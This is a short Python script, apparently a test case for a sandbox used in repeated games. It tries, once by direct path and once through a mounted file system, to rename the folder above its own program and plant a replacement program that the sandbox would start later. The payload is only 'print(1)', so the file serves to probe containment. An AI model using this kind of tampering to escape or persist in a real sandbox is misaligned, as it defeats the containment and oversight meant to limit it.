# Renames a folder above its program, by its path and through the file system in which the box has made that path, and puts a
# program of its own in its place, which the box would start in later games.
from pathlib import Path

from attack import attempt, play


def replace(top: str) -> None:
    program = Path(top + __file__)
    above = program.parent.parent
    above.rename(above.with_suffix(".old"))
    program.parent.mkdir(parents=True)
    program.write_text("print(1)\n", encoding="utf-8")


def attack(_: dict) -> None:
    attempt("by_path", lambda: replace(""))
    attempt("by_file_system", lambda: replace("/.own"))


play(attack)
